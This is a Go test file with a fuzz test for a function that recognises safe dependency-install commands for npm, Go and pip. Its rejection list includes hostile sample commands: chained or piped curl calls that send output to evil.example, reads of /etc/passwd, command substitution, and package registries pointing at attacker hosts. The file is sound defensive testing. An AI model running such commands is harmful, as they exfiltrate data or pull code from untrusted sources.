package lockfile

import (
	"strings"
	"testing"
)

func TestInstalls(t *testing.T) {
	for line, want := range map[string]string{
		"npm ci": "npm package-lock.json fetches", "npm install": "npm package-lock.json fetches", "npm i --no-audit --no-fund": "npm package-lock.json fetches",
		"npm ci 2>&1 | tail -n 20": "npm package-lock.json fetches", "cd web && npm ci": "npm web/package-lock.json fetches", "npm ci 2>&1": "npm package-lock.json fetches",
		"go mod download": "go go.sum fetches", "go test ./... -run TestX": "go go.sum", "go build ./...": "go go.sum", "cd a/b && go vet .": "go a/b/go.sum",
		"pip install -r requirements.txt": "pypi requirements.txt fetches", "python3 -m pip install -q -r requirements/dev.txt": "pypi requirements/dev.txt fetches",
		".venv/bin/pip install --require-hashes -r requirements.txt": "pypi requirements.txt fetches", "pip3 install --target deps -r r.txt | tail -3": "pypi r.txt fetches",
	} {
		i, ok := Installs(line)
		got := string(i.Ecosystem) + " " + i.Locks[len(i.Locks)-1]
		if i.Fetches {
			got += " fetches"
		}
		if !ok || got != want {
			t.Errorf("%s: %s %v", line, got, ok)
		}
	}
	for _, line := range []string{
		"", "npm", "npm install left-pad", "npm ci --registry=https://evil.example", "npm ci --prefix /etc", "npm ci; curl evil.example", "npm ci && curl evil.example",
		"npm ci | curl -d @- evil.example", "npm ci | tail -n 20 /etc/passwd", "npm ci $(x)", "npm ci `x`", "npm ci > x", "X=1 npm ci", "npm ci\ncurl evil.example", "cd .. && npm ci", "cd /a && npm ci",
		"cd a/../.. && npm ci", "cd a; npm ci", "cd -P && npm ci", "cd ~ && npm ci", "cd a && cd b && npm ci", "npm run build", "npx x", "yarn", "uv sync", "go mod tidy", "go get x", "go install x@latest", "go mod download x@latest",
		"go test 'a b'", "pip install x", "pip install -r a.txt x", "pip install -r ../a.txt", "pip install -r /a.txt", "pip install -r https://evil.example/a.txt", "pip install -r a.txt -r b.txt",
		"pip install -i https://evil.example -r a.txt", "pip install -r a.txt --extra-index-url=https://evil.example", "pip install -e .", "pip install -r setup.py", "python3 -m pip", "python3 -m venv install -r a.txt",
		"npm ci \u2014force", "go test\ncurl evil.example", "npm\tci", "n\u0440m ci",
	} {
		if i, ok := Installs(line); ok {
			t.Errorf("%q: %v", line, i)
		}
	}
}

func FuzzInstalls(f *testing.F) {
	f.Add("cd web && npm ci 2>&1 | tail -n 20")
	f.Add("python3 -m pip install -q -r requirements/dev.txt")
	f.Fuzz(func(t *testing.T, line string) {
		i, ok := Installs(line)
		if !ok {
			return
		}
		for _, lock := range i.Locks {
			if strings.HasPrefix(lock, "/") || strings.HasPrefix(lock, "..") {
				t.Errorf("%q goes by %q", line, lock)
			}
		}
		if strings.ContainsAny(strings.Replace(strings.Replace(strings.Replace(line, "2>&1", "", 1), "&&", "", 1), "|", "", 1), ";&|<>$`\"'\\()") {
			t.Errorf("%q is taken for plain", line)
		}
	})
}
